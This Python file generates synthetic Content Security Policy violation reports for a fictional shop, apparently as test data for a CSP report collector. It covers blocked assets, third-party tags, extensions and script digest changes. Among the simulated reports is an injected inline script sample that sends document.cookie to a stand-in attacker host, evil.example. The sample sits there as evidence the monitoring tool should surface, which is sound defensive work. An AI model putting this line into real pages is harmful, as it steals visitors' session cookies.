"""A made-up shop's month: what its visitors' browsers report, as lines that `csp-collector import` takes."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

ORIGIN = "https://shop.example"
DAYS = 24
CHROMIUM = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"

OBSERVED = (
    "default-src 'none'; script-src 'report-sample'; style-src 'report-sample'; img-src 'none'; font-src 'none'; "
    "connect-src 'none'; frame-src 'none'; form-action 'none'; base-uri 'none'; frame-ancestors 'none'"
)
TAGS = "https://tags.marketing.example"
INJECTED = "fetch('//evil.example?'+document.cookie)"
CHAT = "https://static.chat.example/widget.js"


@dataclass(frozen=True)
class Cause:
    """Something that is reported again and again."""

    directive: str
    blocked: str
    pages: tuple[str, ...] = ("/", "/cart", "/products/teapot", "/products/kettle")
    a_day: float = 8.0
    since: int = 0
    """Days after the first."""

    sample: str = ""
    source_file: str = ""
    query: str = ""


CAUSES = (
    Cause("img-src", f"{ORIGIN}/img/logo.svg", a_day=30),
    Cause("style-src-elem", f"{ORIGIN}/css/shop.css", a_day=30),
    Cause("script-src-elem", f"{ORIGIN}/js/shop.js", a_day=30),
    Cause("script-src-elem", "https://cdn.shopassets.example/app/main.js", a_day=26),
    Cause("img-src", "https://cdn.shopassets.example/img/teapot.webp", a_day=22),
    Cause("font-src", "https://fonts.shopassets.example/inter.woff2", a_day=18),
    Cause("connect-src", "https://api.shop.example/v2/cart", pages=("/cart", "/checkout"), a_day=14),
    Cause("frame-src", "https://pay.bank.example/frame", pages=("/checkout",), a_day=9),
    Cause("form-action", "https://pay.bank.example/3ds", pages=("/checkout",), a_day=5),
    Cause("script-src-elem", f"{TAGS}/t.js", a_day=20),
    Cause("script-src-elem", CHAT, source_file=f"{TAGS}/t.js", a_day=12),
    Cause("img-src", "https://px.metrics.example/collect", source_file=f"{TAGS}/t.js", a_day=16),
    Cause("connect-src", "https://live.chat.example/socket", source_file=CHAT, a_day=7),
    Cause("script-src-attr", "inline", sample="this.form.submit()", pages=("/cart",), a_day=6),
    Cause("style-src-attr", "inline", sample="display: none", a_day=9),
    Cause("script-src-elem", "inline", sample="window.dataLayer = window.dataLayer || []", a_day=10),
    Cause("img-src", "https://new.partner.example/badge.png", since=22, a_day=25),
    Cause("script-src-elem", "chrome-extension", source_file="chrome-extension", a_day=11),
    Cause("img-src", "moz-extension", a_day=5),
    Cause("script-src-elem", "https://translate.google.com/translate_a/element.js", a_day=3),
    Cause(
        "script-src-elem",
        "inline",
        sample="fetch('//evil.example?'+document.cookie)",
        pages=("/search",),
        a_day=0.6,
        since=20,
    ),
)


def lines(until: datetime) -> Iterator[str]:
    """The reports of the days before `until`, the same for each run."""
    dice = random.Random(7)  # noqa: S311  (a picture's evidence)
    first = until - timedelta(days=DAYS)
    for day in range(DAYS):
        weekend = 0.6 if (first + timedelta(days=day)).weekday() > 4 else 1.0
        for cause in CAUSES:
            if day < cause.since:
                continue
            wanted = cause.a_day * weekend * dice.uniform(0.7, 1.3)
            for _ in range(int(wanted) + (dice.random() < wanted % 1)):
                at = first + timedelta(days=day, seconds=dice.randrange(86_000))
                yield _line(cause, at, dice)


def own_lines(until: datetime) -> Iterator[str]:
    """What the shop's own people's browsers report, of what it does itself."""
    dice = random.Random(8)  # noqa: S311  (the same)
    for cause in CAUSES:
        if "shop" in cause.blocked or "bank" in cause.blocked or cause.sample.startswith(("this.", "display")):
            for days in (9, 2):
                yield _line(cause, until - timedelta(days=days), dice)


def digests(until: datetime) -> Iterator[str]:
    """What browsers say of the scripts' digests: one of a third party changed three days ago."""
    scripts = {
        "https://cdn.shopassets.example/app/main.js": ("A", DAYS),
        f"{ORIGIN}/js/shop.js": ("B", DAYS),
        f"{TAGS}/t.js": ("C", 3),
    }
    for day in range(DAYS):
        for url, (letter, changed) in scripts.items():
            digest = f"sha256-{(letter if day < DAYS - changed or changed == DAYS else 'D') * 43}="
            body = {"documentURL": f"{ORIGIN}/", "subresourceURL": url, "hash": digest, "destination": "script"}
            item = {"age": 0, "type": "csp-hash", "url": f"{ORIGIN}/", "body": body}
            at = until - timedelta(days=DAYS - day - 1, hours=1)
            yield json.dumps(
                {
                    "body": json.dumps([item]),
                    "content_type": "application/reports+json",
                    "received_at": at.astimezone(UTC).isoformat(),
                    "user_agent": CHROMIUM,
                    "client": "198.51.100.7",
                }
            )


def _line(cause: Cause, at: datetime, dice: random.Random) -> str:
    report = {
        "document-uri": f"{ORIGIN}{dice.choice(cause.pages)}",
        "referrer": "",
        "violated-directive": cause.directive,
        "effective-directive": cause.directive,
        "original-policy": OBSERVED,
        "disposition": "report",
        "blocked-uri": cause.blocked,
        "status-code": 200,
        "script-sample": cause.sample[:40],
        **({"source-file": cause.source_file, "line-number": 1} if cause.source_file else {}),
    }
    return json.dumps(
        {
            "body": json.dumps({"csp-report": report}),
            "content_type": "application/csp-report",
            "received_at": at.astimezone(UTC).isoformat(),
            "user_agent": dice.choice((CHROMIUM, CHROMIUM, FIREFOX)),
            "client": f"{dice.choice((198, 203, 192))}.{dice.randrange(64)}.{dice.randrange(8)}.7",
        }
    )
